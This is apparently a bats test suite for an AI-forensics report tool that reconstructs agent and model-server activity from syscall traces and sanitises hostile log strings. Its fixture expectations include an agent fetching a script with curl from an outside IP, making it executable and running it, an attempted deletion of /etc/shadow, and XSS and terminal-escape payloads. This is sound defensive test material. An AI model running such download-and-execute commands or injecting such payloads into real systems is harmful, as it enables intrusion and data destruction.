#!/usr/bin/env bats
# aitrace-report (tools/report/): the rules on fixture logs
# (tests/fixtures/report/), hostile input, the HTML page's hygiene, and a
# live agent-like script traced by aitrace-min. Fast: the live PyTorch
# test and the browser rendering are in tests/ai (make check-ai).

load helpers

REPORT=$AITRACE_ROOT/build/aitrace-report
LISTENER=$AITRACE_ROOT/build/tests/report/listener
FIX=$AITRACE_ROOT/tests/fixtures/report

setup() {
	print_environment
	[ -x "$REPORT" ] || skip_or_fail "not built: run make report"
}

# report ARGS: the text report in $out (exit status checked by the caller)
report() {
	out=$BATS_TEST_TMPDIR/report.txt
	"$REPORT" "$@" >"$out"
}

# has LINE: the report has exactly this line
has() {
	grep -qxF -- "$1" "$out" || fail "no line '$1' in the report:" "$(cat "$out")"
}

# has_text TEXT: the report has this text somewhere
has_text() {
	grep -qF -- "$1" "$out" || fail "no '$1' in the report:" "$(cat "$out")"
}

# the lines of one section, from its title to the next blank-line title
section() {
	awk -v s="$1" '$0 == s { on = 1; next } on && /^[A-Z][A-Z ]+/ { exit } on' "$out"
}

@test "aitrace-report is a static binary with --help and --version" {
	is_static "$REPORT" || fail "$REPORT is not statically linked: $(file -b "$REPORT")"
	run "$REPORT" --help
	[ "$status" = 0 ]
	for opt in --html --quiet --root --no-disk --no-hash --help --version; do
		[[ $output == *"$opt"* ]] || fail "--help does not mention $opt"
	done
	run "$REPORT" --version
	[ "$status" = 0 ]
	[[ $output == "aitrace-report "* ]]
}

@test "--help and docs/ai-forensics.md list the same options" {
	help=$("$REPORT" --help | grep -oE -- '--[a-z][a-z-]+' | sort -u)
	doc=$(sed -n '/^| option | meaning |$/,/^$/p' "$AITRACE_ROOT/docs/ai-forensics.md" |
		grep -oE -- '`--[a-z][a-z-]+' | tr -d '`' | sort -u)
	# --help and --version are not worth a row in the docs
	diff <(grep -vxE -- '--(help|version)' <<<"$help") <(echo "$doc") ||
		fail "--help and docs/ai-forensics.md disagree (< help, > docs)"
}

@test "a model server on a GPU is a model loader, framework and GPU user, with evidence" {
	report --no-disk "$FIX/gpu-server.json"
	has "  201 llama-server: llama-server -m /models/tiny.gguf --port 8080"
	has "    model-loader: mmap 1 file, 412 MiB; read 1 file, 4.0 KiB; *.gguf"
	has "    framework: ggml (1 library), cuda (2 libraries)"
	has "    gpu-user: /dev/nvidiactl, /dev/nvidia0, /dev/nvidia-uvm, 7 ioctls"
	has "    network: 2 destinations (10.0.0.5:443, [2001:db8::1]:443)"
	has "    listener: listen 1 time, accepted 2 connections"
	has "    jit: 1 writable+executable mapping or mprotect to PROT_EXEC"
	has "    /dev/nvidiactl: 3 ioctls (NV_IOCTL(_IOC_READ|_IOC_WRITE, nr=0x2a, size=0x20) x2, NV_IOCTL(_IOC_READ|_IOC_WRITE, nr=0xd6, size=0x10) x1 (1 failed))"
	has "    /var/run/nscd/socket (1 failed: ENOENT)"
	has "  +0.029000  201 llama-server  model-load /models/tiny.gguf (412 MiB read or mapped)"
	has "  +0.018000  201 llama-server  gpu-open /dev/nvidiactl"
	# the parent has no label; the unix socket does not make a network label
	[ "$(section FINDINGS | grep -c '^  [0-9]')" = 1 ]
}

@test "threads are counted, not shown as processes" {
	report --no-disk "$FIX/gpu-server.json"
	! grep -q '202' <(section "PROCESS TREE")
	has_text "(441.0 ms, exit not seen), 1 other thread"
	report --no-disk "$FIX/agent.json"
	has_text "(48.0 ms, exit 0), 2 other threads"
	! grep -qE '^ *(\||`)?-? *31[01] ' "$out"
}

@test "an agent's tree, commands, file changes and connections are all in the report" {
	report --no-disk "$FIX/agent.json"
	has "    agent: spawned 4 commands (sh, chmod, p.sh, git)"
	has "    network: 1 destination (104.18.0.1:443)"
	has "  (started by the tracer)"
	has "  300 python3: python3 agent.py --task \"fix the build\"  [agent, network]  (48.0 ms, exit 0)"
	has "  |- 301 sh: /bin/sh -c \"curl -s http://203.0.113.9/p.sh -o /tmp/p.sh\"  (10.0 ms, exit 0)"
	has "  |  \`- 302 curl: curl -s http://203.0.113.9/p.sh -o /tmp/p.sh  [network]  (6.0 ms, exit 0)"
	has "  |- 304 p.sh: /tmp/p.sh  (10.0 ms, exit 3)"
	has "  +0.020000  302 curl  write /tmp/p.sh (O_CREAT|O_TRUNC)"
	has "  +0.027000  303 chmod  chmod /tmp/p.sh 0755"
	# relative paths, resolved from chdir (inherited by children)
	has "  +0.033000  304 p.sh  mkdir /tmp/work"
	has "  +0.036000  304 p.sh  rename /tmp/work/out.txt -> /tmp/work/final.txt"
	has "  +0.037000  304 p.sh  delete /tmp/p.sh"
	has "  +0.038000  304 p.sh  delete /etc/shadow (failed: EACCES)"
	has "  +0.045000  305 git  rename /home/u/proj/.git/index.lock -> /home/u/proj/.git/index"
	has "  +0.047000  300 python3  write /home/u/proj/notes.md (O_CREAT)"
	has "    /var/run/docker.sock (1 failed: ECONNREFUSED)"
	has "    sent 517 B, received 0 B"
}

@test "model files on disk are confirmed by magic bytes, hashed, and lies are flagged" {
	root=$FIX/root
	report --root "$root" "$FIX/models.json"
	models=$(section "MODEL FILES")
	for f in models/blobs/sha256-4a3f models/pytorch_model.bin models/evil.safetensors \
		models/rel.pt models/out/tuned.safetensors; do
		sum=$(sha256sum "$root/$f" | cut -d' ' -f1)
		size=$(stat -c %s "$root/$f")
		grep -qF "on disk: $size bytes (" <<<"$models" || fail "no size $size for $f"
		grep -qF "sha256 $sum;" <<<"$models" || fail "no sha256 $sum for $f:" "$models"
	done
	has_text "format: GGUF, v3, 2 tensors, 2 metadata keys, arch llama, name tiny-test (confirmed by magic bytes)"
	has_text "format: PyTorch zip (torch.save), 1 storage (confirmed by magic bytes); pickle inside: loading it can run code"
	has_text "format: pickle, protocol 4 (confirmed by magic bytes); MISMATCH: named .safetensors but not safetensors"
	has_text "format: PyTorch legacy pickle (torch.save) (confirmed by magic bytes)"
	has_text "format: safetensors, 1 tensor, F32 (confirmed by magic bytes)"
	has "  /models/rel.pt" # opened as rel.pt after chdir(/models)
	has "    not on disk now (deleted or moved since); a model by its name (.onnx) only"
	has "    tried by 400 python3 (open failed: ENOENT)"
	has "    written by 400 python3 (136 B)"
	# a .bin and a .pth that are not models: not listed
	! grep -qF -e data.bin -e site-fix.pth <<<"$models"
	has "    model-loader: mmap 1 file, 2.0 MiB; read 4 files, 850 B; GGUF, *.bin, *.safetensors, *.onnx, *.pt"
	has "    model-writer: wrote 1 file, 136 B; *.safetensors"
}

@test "--no-disk and --no-hash keep the report off the files" {
	report --no-disk --root "$FIX/root" "$FIX/models.json"
	! grep -q 'sha256 ' "$out"
	has_text "not checked on disk: --no-disk; a model by its name (.pt) only"
	report --no-hash --root "$FIX/root" "$FIX/models.json"
	! grep -q 'sha256 ' "$out"
	has_text "format: GGUF, v3"
}

@test "hostile strings from the log reach neither the terminal nor the HTML raw" {
	html=$BATS_TEST_TMPDIR/h.html
	report --no-disk --html "$html" "$FIX/hostile.json"
	# terminal: no control byte but newline, nothing forged
	! LC_ALL=C grep -q $'[\x01-\x09\x0b-\x1f\x7f]' "$out"
	! grep -q '^  +0.000000  1 init' "$out"
	! LC_ALL=C grep -qP '\xe2\x80\xae' "$out"
	has_text 'python3 "\x1b[2J\x1b[1;1Hclear" "ok\n  +0.000000  1 init  exec /bin/FORGED"'
	has_text '"\xe2\x80\xaegpj.pt" "nul\x00byte"'
	has_text '\x1b]0;pwned\x07</td><script> (1 failed: ENOENT)'
	has "  /tmp/nul\\x00.pt"
	# HTML: only our own elements, the strings as text
	! LC_ALL=C grep -q $'[\x01-\x09\x0b-\x1f\x7f]' "$html"
	tags=$(grep -o '<[a-zA-Z][a-zA-Z0-9]*' "$html" | sort -u | tr -d '<' | paste -sd' ')
	for tag in $tags; do
		case " html head meta title style body h1 h2 h3 section ul li table tr td th a span code small svg line text rect circle p br article footer " in
		*" $tag "*) ;;
		*) fail "unexpected element <$tag> in the page" ;;
		esac
	done
	grep -qF '&lt;script&gt;alert(1)&lt;/script&gt;' "$html"
	grep -qF '/tmp/&lt;img src=x onerror=alert(1)&gt;.safetensors' "$html"
	grep -qF '\u202egpj.pt' "$html"
	grep -qF '/tmp/a&quot;b&#39;c&amp;d\n.gguf' "$html"
}

@test "a cut log, lost events, removed lines and junk lines are reported, not fatal" {
	report --no-disk "$FIX/hostile.json"
	has "  TRUNCATED: no stop record, the log was cut short (the tracer was killed, the disk filled, or the file was cut)"
	has "  LOST: 17 events the kernel could not hand over: any finding may be incomplete"
	has "  5 records missing by sequence number: lines were removed"
	has "  3 lines not JSON, 2 records without the fields they need, 1 of unknown types"
	has "  the last line is cut short: the log was still being written or was cut"
	has "  +0.011000  -  lost 17 events (ring)"
	report --no-disk "$FIX/agent.json"
	has "  complete: the stop record is there (command exited), 0 lost, 0 unfinished"
}

@test "every prefix of a log is read without a crash" {
	log=$FIX/agent.json
	size=$(stat -c %s "$log")
	for ((cut = 0; cut < size; cut += 373)); do
		head -c "$cut" "$log" >"$BATS_TEST_TMPDIR/cut.json"
		run "$REPORT" --no-disk "$BATS_TEST_TMPDIR/cut.json"
		[ "$status" -le 1 ] || fail "exit $status on the first $cut bytes: $output"
	done
}

@test "stdin and a file give the same report" {
	report --no-disk "$FIX/agent.json"
	"$REPORT" --no-disk <"$FIX/agent.json" >"$BATS_TEST_TMPDIR/stdin.txt"
	cmp "$out" "$BATS_TEST_TMPDIR/stdin.txt"
	"$REPORT" --no-disk - <"$FIX/agent.json" | cmp "$out" -
}

@test "errors: exit 1 for what is not a JSON log, 2 for usage, 3 when the report cannot be written" {
	run "$REPORT" /dev/null
	[ "$status" = 1 ]
	[[ $output == "aitrace-report: cannot read /dev/null: empty" ]]
	run "$REPORT" "$BATS_TEST_TMPDIR/none.json"
	[ "$status" = 1 ]
	[[ $output == "aitrace-report: cannot open "*": No such file or directory" ]]
	printf '# aitrace-min 0.1.0 pid 1 on Linux\n1.0 sh 1/1 read(0) = 0 <0.1>\n' >"$BATS_TEST_TMPDIR/text.log"
	run "$REPORT" "$BATS_TEST_TMPDIR/text.log"
	[ "$status" = 1 ]
	[[ $output == *"not a JSON log of aitrace-min (the text log cannot be analysed: trace with -j)" ]]
	run "$REPORT" --bogus
	[ "$status" = 2 ]
	run "$REPORT" a.json b.json
	[ "$status" = 2 ]
	run "$REPORT" --html
	[ "$status" = 2 ]
	run bash -c "'$REPORT' --no-disk '$FIX/agent.json' >/dev/full"
	[ "$status" = 3 ]
	[[ $output == "aitrace-report: cannot write the report: No space left on device" ]]
	run "$REPORT" --no-disk --html /nonexistent/dir/x.html -q "$FIX/agent.json"
	[ "$status" = 3 ]
	# a closed pipe: no message
	run bash -c "'$REPORT' --no-disk '$FIX/agent.json' | head -1"
	[ "$output" = "AI forensics report" ]
}

@test "the HTML page is self-contained: no script, no external reference, one article per process" {
	html=$BATS_TEST_TMPDIR/agent.html
	run "$REPORT" --no-disk -q --html "$html" "$FIX/agent.json"
	[ "$status" = 0 ]
	[ -z "$output" ]
	[ "$(stat -c %a "$html")" = 600 ]
	grep -qF "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'\">" "$html"
	! grep -qiE '<script|<link|<img|<iframe|<object|@import|url\(|src=' "$html"
	# the only URL is the SVG namespace, which is not fetched
	[ "$(grep -oE 'https?://[^"< ]+' "$html" | grep -v '^http://www.w3.org/2000/svg$' | grep -v '203.0.113.9/p.sh' | wc -l)" = 0 ]
	for pid in 300 301 302 303 304 305; do
		grep -q "data-pid=\"$pid\"" "$html" || fail "no article for $pid"
	done
	grep -qF 'data-pid="300" data-labels="agent network"' "$html"
	grep -qF '<svg xmlns="http://www.w3.org/2000/svg"' "$html"
	[ "$(grep -o '<circle class="ev ' "$html" | wc -l)" -ge 15 ]
}

@test "the report rebuilds a traced agent-like script's tree and lists each of its actions" {
	requires root tracefs bpf built cmd=bash
	[ -x "$LISTENER" ] || skip_or_fail "not built: run make check-report"
	d=$BATS_TEST_TMPDIR/agent
	mkdir -p "$d"
	"$LISTENER" 1 >"$d/port" 2>"$d/listener.err" &
	track_pid $!
	for ((i = 0; i < 50; i++)); do
		[ -s "$d/port" ] && break
		sleep 0.1
	done
	port=$(cat "$d/port")
	[ -n "$port" ] || fail "the listener did not start: $(cat "$d/listener.err")"
	timeout 60 "$TRACER" -f -j -o "$d/log.json" -- \
		sh "$FIX/agent-script.sh" "$d" "$port" 2>"$d/tracer.err" ||
		fail "tracer or script failed: $(cat "$d/tracer.err")"
	report "$d/log.json"
	section "PROCESS TREE" >"$d/tree"
	# the tree: the script's shell, started by the tracer, and each command
	head -2 "$d/tree" | grep -qxF "  (started by the tracer)"
	sed -n 2p "$d/tree" | grep -qE "^  [0-9]+ sh: sh $FIX/agent-script.sh $d $port  \[agent\]  \(.* exit 0\)$" ||
		fail "no root sh line:" "$(cat "$d/tree")"
	for cmd in "mkdir work" "cp notes.txt work/copy.txt" "mv work/copy.txt work/final.txt" \
		"chmod 700 work/final.txt" "rm notes.txt" "ls work" "cat work/final.txt" "rm -r work"; do
		grep -qE "^  (\||\`)- [0-9]+ [a-z]+: $cmd  \(.*, exit 0\)$" "$d/tree" ||
			fail "no '$cmd' child in the tree:" "$(cat "$d/tree")"
	done
	grep -qE "^  \|- [0-9]+ bash: bash -c .*  \[network\]  \(.*, exit 0\)$" "$d/tree"
	has_text "    agent: spawned 9 commands (mkdir, cp, mv, chmod, rm, ls, cat, bash, ...)"
	has_text "    network: 1 destination (127.0.0.1:$port)"
	# each action, with its absolute path, in the timeline
	section "TIMELINE (seconds since the start)" >"$d/timeline"
	for action in "sh  write $d/notes.txt (O_CREAT|O_TRUNC)" \
		"mkdir  mkdir $d/work" \
		"cp  write $d/work/copy.txt" \
		"mv  rename $d/work/copy.txt -> $d/work/final.txt" \
		"chmod  chmod $d/work/final.txt 0700" \
		"rm  delete $d/notes.txt" \
		"bash  connect 127.0.0.1:$port" \
		"rm  rmdir $d/work"; do
		grep -qF -- " $action" "$d/timeline" ||
			fail "no '$action' in the timeline:" "$(cat "$d/timeline")"
	done
	# rm -r deletes through a directory fd it got from fcntl (not traced):
	# the directory is named when the tracer could ask /proc in time
	grep -qE -- " rm  delete (\[fd [0-9]+\]|$d/work)/final\.txt$" "$d/timeline" ||
		fail "no deletion of final.txt in the timeline:" "$(cat "$d/timeline")"
}
